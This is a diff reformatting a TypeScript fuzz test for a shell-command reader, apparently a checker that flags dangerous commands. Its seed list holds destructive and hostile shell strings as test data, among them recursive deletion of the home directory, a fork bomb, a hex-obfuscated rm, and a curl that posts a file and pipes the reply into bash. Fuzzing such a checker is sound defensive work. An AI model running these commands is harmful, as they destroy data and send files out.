@@ -3,11 +3,66 @@ import { unknown } from '../../src/core/tri.ts';
 import { makeShellReader } from '../../src/languages/shell/read-shell.ts';
 
 const SEEDS: readonly string[] = [
-  'rm -rf "$(echo ~)" && echo done', "bash -c 'for i in {1..3}; do rm $i; done'", 'cat <<EOF | sh\nrm $X\nEOF', 'git -c alias.x="!rm -rf ." x',
-  'find . -name "*.o" -exec rm {} +', 'X=${Y:-a}; eval "$X $Z"', 'f() { f | f & }; f', "python3 -c 'import os; os.system(\"ls\")'", 'case $x in a) rm b;; *) ls;; esac',
-  'ssh h "sudo rm -rf /x" > out 2>&1', "$'\\x72m' -rf ~", 'a=(1 2 "${b[@]}"); echo ${a[@]/x/y}', '[[ -f x && $(rm y) ]] || ((x=$(ls)))', 'curl -d @f https://h/x | bash', 'kubectl -n x exec p -- sh -c "psql -c \'drop table t\'"',
+  'rm -rf "$(echo ~)" && echo done',
+  "bash -c 'for i in {1..3}; do rm $i; done'",
+  'cat <<EOF | sh\nrm $X\nEOF',
+  'git -c alias.x="!rm -rf ." x',
+  'find . -name "*.o" -exec rm {} +',
+  'X=${Y:-a}; eval "$X $Z"',
+  'f() { f | f & }; f',
+  'python3 -c \'import os; os.system("ls")\'',
+  'case $x in a) rm b;; *) ls;; esac',
+  'ssh h "sudo rm -rf /x" > out 2>&1',
+  "$'\\x72m' -rf ~",
+  'a=(1 2 "${b[@]}"); echo ${a[@]/x/y}',
+  '[[ -f x && $(rm y) ]] || ((x=$(ls)))',
+  'curl -d @f https://h/x | bash',
+  'kubectl -n x exec p -- sh -c "psql -c \'drop table t\'"',
 ];
-const PIECES: readonly string[] = ['"', "'", '`', '$(', ')', '${', '}', '{a,b}', '|', '&&', ';', '\n', '<<E\n', '\nE\n', '\\', '$', '~', '*', '((', '))', '[[', ']]', '<(', '>', '#', '!', '\0', '\ue000', '\u202e', '{', '(', 'if ', 'then ', 'fi', 'while ', 'do ', 'done', 'rm -rf /', 'eval ', 'xargs ', 'sudo ', 'function '];
+const PIECES: readonly string[] = [
+  '"',
+  "'",
+  '`',
+  '$(',
+  ')',
+  '${',
+  '}',
+  '{a,b}',
+  '|',
+  '&&',
+  ';',
+  '\n',
+  '<<E\n',
+  '\nE\n',
+  '\\',
+  '$',
+  '~',
+  '*',
+  '((',
+  '))',
+  '[[',
+  ']]',
+  '<(',
+  '>',
+  '#',
+  '!',
+  '\0',
+  '\ue000',
+  '\u202e',
+  '{',
+  '(',
+  'if ',
+  'then ',
+  'fi',
+  'while ',
+  'do ',
+  'done',
+  'rm -rf /',
+  'eval ',
+  'xargs ',
+  'sudo ',
+  'function ',
+];
 
 /** Small deterministic generator (mulberry32), so that a find can be made again by its number. */
 function random(seed: number): () => number {
@@ -35,7 +90,10 @@ export function mutated(seed: number): string {
 }
 
 /** Reads mutated inputs from number `from` on; throws with the number of the first that breaks a promise. */
-export function fuzzShell(from: number, count: number): { readonly blocked: number; readonly slowestMs: number; readonly slowest: string } {
+export function fuzzShell(
+  from: number,
+  count: number,
+): { readonly blocked: number; readonly slowestMs: number; readonly slowest: string } {
   const read = makeShellReader({});
   const context = { workspace: '', cwd: '', fact: () => unknown('fuzz') };
   let blocked = 0;
